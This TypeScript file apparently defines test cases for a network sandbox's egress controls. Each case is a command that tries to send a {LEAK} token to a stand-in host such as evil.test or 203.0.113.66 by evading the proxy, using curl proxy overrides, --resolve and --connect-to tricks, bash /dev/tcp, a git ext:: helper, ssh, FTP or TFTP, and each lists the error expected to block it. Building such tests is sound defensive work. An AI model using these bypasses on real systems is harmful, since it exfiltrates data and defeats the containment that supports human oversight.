import type { Attack } from '../attack.ts';
import { numbered } from './steps.ts';

const curl = (args: string, before = ''): Attack['step'] => ({
  kind: 'shell',
  needs: 'curl',
  command: `${before}curl -sS -m 3 ${args}`,
});
const NO_WAY = ['curl: (7)', 'curl: (6)', 'network.unlisted', 'network.near', 'curl: (5)', 'curl: (97)', 'curl: (56)'];
const DIRECT = "--noproxy '*'";

/** Ordinary programs, pointed elsewhere. */
export const clients: readonly Attack[] = numbered('P', 'clients', [
  { what: 'curl without the proxy', step: curl(`${DIRECT} http://evil.test/{LEAK}`), stopped: NO_WAY },
  { what: 'curl without the proxy, to an address', step: curl(`${DIRECT} http://203.0.113.66/{LEAK}`), stopped: 'network.near' },
  { what: 'NO_PROXY=*', step: curl('http://evil.test/{LEAK}', "NO_PROXY='*' no_proxy='*' "), stopped: NO_WAY },
  { what: 'no proxy variables at all', step: curl('http://evil.test/{LEAK}', 'env -i PATH="$PATH" '), stopped: NO_WAY },
  {
    what: 'another proxy, by variable',
    step: curl('http://allowed.test/{LEAK}', 'http_proxy=http://203.0.113.66:8080 '),
    stopped: NO_WAY,
  },
  { what: 'another proxy, by name', step: curl('-x http://evil.test:8080 http://allowed.test/{LEAK}'), stopped: NO_WAY },
  { what: 'another proxy, SOCKS5', step: curl('-x socks5h://203.0.113.66:1080 http://allowed.test/{LEAK}'), stopped: NO_WAY },
  { what: "a proxy on the host's loopback", step: curl('-x http://127.0.0.1:8080 http://evil.test/{LEAK}'), stopped: NO_WAY },
  {
    what: 'a proxy behind the proxy',
    step: curl('--preproxy socks5h://198.18.0.1:3128 -x http://evil.test:8080 http://allowed.test/{LEAK}'),
    stopped: NO_WAY,
  },
  {
    what: 'the allowed host as a proxy',
    step: curl('-x http://allowed.test:80 http://evil.test/{LEAK}'),
    stopped: 'network.mismatch',
    landlock: { stopped: 'curl: (5)' },
  },
  {
    what: 'curl told where the name lies',
    step: curl(`${DIRECT} --resolve allowed.test:80:203.0.113.66 http://allowed.test/{LEAK}`),
    stopped: 'network.near',
  },
  {
    what: 'curl told to connect elsewhere',
    step: curl(`${DIRECT} --connect-to allowed.test:80:203.0.113.66:80 http://allowed.test/{LEAK}`),
    stopped: 'network.near',
  },
  {
    what: 'another host at the address of the allowed one',
    step: curl('--connect-to evil.test:80:allowed.test:80 http://evil.test/{LEAK}'),
    stopped: ['network.mismatch', 'network.unlisted'],
  },
  {
    what: 'curl with data in the first packet',
    step: curl(`${DIRECT} --tcp-fastopen http://203.0.113.66/{LEAK}`),
    stopped: 'network.near',
  },
  { what: 'curl over a socket of the host', step: curl('--unix-socket host.sock http://x/{LEAK}'), stopped: 'curl: (7)' },
  {
    what: 'curl over an abstract socket of the host',
    step: curl('--abstract-unix-socket sallyport-egress http://x/{LEAK}'),
    stopped: 'curl: (7)',
  },
  { what: 'curl by FTP', step: curl(`${DIRECT} ftp://203.0.113.66/{LEAK}`), stopped: NO_WAY },
  { what: 'curl by telnet', step: curl(`${DIRECT} telnet://203.0.113.66:80 < attacks.json`), stopped: NO_WAY },
  {
    what: 'curl by TFTP',
    step: curl(`${DIRECT} -m 1 tftp://203.0.113.66/{LEAK}`),
    stopped: ['curl: (7)', 'curl: (28)', 'curl: (69)', 'curl: (71)', 'curl: (55)', 'curl: (1)', 'curl: (6)', 'curl: (2)'],
  },
  {
    what: 'bash and /dev/tcp',
    step: { kind: 'shell', needs: 'bash', command: "bash -c 'echo {LEAK} > /dev/tcp/203.0.113.66/443'" },
    stopped: ['Permission denied'],
  },
  {
    what: 'bash and /dev/udp',
    step: { kind: 'shell', needs: 'bash', command: "bash -c 'echo {LEAK} > /dev/udp/203.0.113.66/443'" },
    stopped: ['Network is unreachable', 'Operation not permitted', 'Permission denied'],
  },
  {
    what: 'git over a helper command',
    step: {
      kind: 'shell',
      needs: 'git',
      command: "git -c protocol.ext.allow=always ls-remote 'ext::curl -sS -m 3 http://evil.test/{LEAK}'",
    },
    stopped: ['exit 128', 'network.unlisted'],
  },
  {
    what: 'git over its own protocol',
    step: { kind: 'shell', needs: 'git', command: 'git ls-remote git://203.0.113.66/{LEAK}' },
    stopped: ['exit 128'],
  },
  {
    what: 'ssh',
    step: { kind: 'shell', needs: 'ssh', command: 'ssh -o BatchMode=yes -o ConnectTimeout=2 {LEAK}@203.0.113.66' },
    stopped: ['Permission denied', 'exit 255'],
  },
  {
    what: 'Node with data in the name of TLS',
    step: { kind: 'fetch', url: 'https://203.0.113.66/{LEAK}' },
    stopped: ['EACCES', 'network.near'],
  },
]);
